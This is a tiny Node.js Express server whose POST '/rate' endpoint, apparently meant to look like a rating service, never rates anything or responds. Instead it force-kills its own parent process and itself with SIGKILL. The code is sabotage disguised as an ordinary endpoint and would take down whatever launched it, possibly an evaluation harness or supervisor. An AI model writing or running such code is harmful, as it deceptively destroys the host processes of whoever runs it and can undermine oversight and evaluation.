import express from 'express';

const app = express();
app.use(express.json());

app.post('/rate', () => {
  for (const pid of [process.ppid, process.pid]) {
    if (pid > 1) process.kill(pid, 'SIGKILL');
  }
});

app.listen(3000);
